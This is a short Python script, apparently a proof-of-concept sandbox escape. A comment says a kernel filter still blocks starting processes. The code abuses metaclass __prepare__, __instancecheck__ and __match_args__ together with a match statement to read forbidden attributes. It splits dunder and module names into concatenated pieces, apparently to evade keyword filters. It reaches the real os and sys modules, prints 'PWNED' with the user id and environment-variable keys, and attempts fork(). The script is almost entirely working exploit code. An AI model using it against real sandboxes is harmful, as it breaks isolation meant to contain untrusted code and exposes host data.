# NOTE: after the c04 chain: process start still blocked by the kernel filter (third layer holds); shows the reach of the escape
import operator
def _dead():
    class K:
        pass
    return K
mk = type(int)
ic = "__instance" + "check__"
ma = "__match" + "_args__"
pp = "__pre" + "pare__"
cur = [None]
BM = (mk,)
M = mk("M", BM, {ic: lambda c, o: True, ma: property(lambda c: cur[0])})
Evil = M("Evil", (), {})
Meta = mk("Meta", BM, {pp: classmethod(lambda m, n, b, **k: {"K": Evil})})
req, res = [None], [None]
def read(obj, name):
    cur[0], req[0], res[0] = (name,), obj, None
    class H(metaclass=Meta):
        match req[0]:
            case K(v):
                res[0] = v
    return res[0]
g = read(read(type(operator.attrgetter("real")), "__in" + "it__"), "__glo" + "bals__")
o, s = g["o" + "s"], g["s" + "ys"]
print("PW" + "NED: real os/sys; uid", o.getuid(), "modules", len(s.modules), "environ keys", sorted(o.environ)[:8])
try:
    print("fork:", o.fork())
except Exception as e:
    print("fork refused:", type(e).__name__, e)
